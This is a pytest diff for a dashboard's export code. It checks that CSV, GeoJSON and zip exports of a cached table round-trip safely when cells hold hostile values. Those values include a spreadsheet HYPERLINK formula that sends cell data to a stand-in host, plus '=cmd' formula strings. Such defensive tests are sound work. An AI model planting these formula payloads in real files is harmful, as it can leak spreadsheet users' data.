@@ -109,3 +109,62 @@ def test_exports_of_no_rows_are_valid(tiny_ref):
     frame = load_rows([row()], tiny_ref).frame.iloc[0:0]
     assert to_csv_bytes(frame).decode("utf-8-sig").strip() == ",".join(EVENT_COLUMNS)
     assert json.loads(to_geojson_bytes(frame))["features"] == []
+
+
+# ----- exports of a table checked into the Parquet cache, read through the engine ----------------
+
+HOSTILE_CELLS = ['=HYPERLINK("http://e/?"&A2,"x")', "+1", "-x", "@x", "\tx", "''=x", "a\nb", "a\r\nb", "x\ry"]
+HOSTILE_CELLS += ["a\u2028b", '"q"', " lead", "trail ", "", "'", "=", "\u0085x", "-"]
+NUMBERS = ["1e-7", "123456789.123", "1e20", "-0", "0.1", "7400000000", "999999999999999.9"]
+
+
+@pytest.fixture
+def parquet_dataset(tiny_ref, tmp_path, monkeypatch):
+    """A table with hostile text, numbers and two extra columns, served from its Parquet cache."""
+    import dashboard.dataset as ds
+    from dashboard.data import load_sources
+    from tests.conftest import table_bytes
+
+    monkeypatch.setattr(ds, "CACHE_MIN_BYTES", 0)
+    monkeypatch.setattr(ds, "LAZY_MIN_ROWS", 0)
+    rows = []
+    for i, text in enumerate(HOSTILE_CELLS):
+        cells = {"summary": text, "notes": text, "n2": f"=cmd{i}"}
+        if i < len(NUMBERS):
+            cells |= {"value": NUMBERS[i], "unit": "USD"}
+        if i % 5 == 0:
+            cells |= {"lat": "", "lon": "", "place": "", "date_start": "", "date_end": ""}
+        rows.append(row(event_id=f"r-{i:02d}", **cells))
+    path = tmp_path / "events.csv"
+    path.write_bytes(table_bytes(rows, columns=[*EVENT_COLUMNS, "notes", "n2"]))
+    sources, problems = load_sources()
+    ds.build_dataset(path, tiny_ref, sources, problems, cache_dir=tmp_path / "c")
+    dataset = ds.build_dataset(path, tiny_ref, sources, problems, cache_dir=tmp_path / "c")
+    assert dataset.from_cache and dataset.parquet and dataset.result.ok
+    return dataset
+
+
+def test_exports_of_a_cached_table_round_trip_and_the_package_holds_the_same_files(parquet_dataset, tiny_ref):
+    import io
+    import zipfile
+
+    from dashboard.engine import Selection, for_dataset
+    from dashboard.export import FORMATS, ExportContext
+    from dashboard.filters import FilterState
+
+    engine = for_dataset(parquet_dataset)
+    assert engine.source == str(parquet_dataset.parquet)
+    rows = Selection(engine)
+    csv_bytes = FORMATS["csv"].write(rows, None)
+    back = load_events(csv_bytes, tiny_ref, frozenset({1, 2, 3, 4}), name="back.csv")
+    assert back.ok, [str(p) for p in back.problems]
+    pd.testing.assert_frame_equal(back.frame, parquet_dataset.result.frame, check_dtype=False)
+    geojson = FORMATS["geojson"].write(rows, None)
+    json.loads(geojson, parse_constant=lambda c: pytest.fail(f"GeoJSON holds {c}"))
+    package = zipfile.ZipFile(
+        io.BytesIO(FORMATS["zip"].write(rows, ExportContext(parquet_dataset, FilterState())))
+    )
+    # The package's files are the downloads' bytes: the extra columns included.
+    assert package.read("events.csv") == csv_bytes
+    assert package.read("events.geojson") == geojson
+    assert b'"n2"' in package.read("datapackage.json")
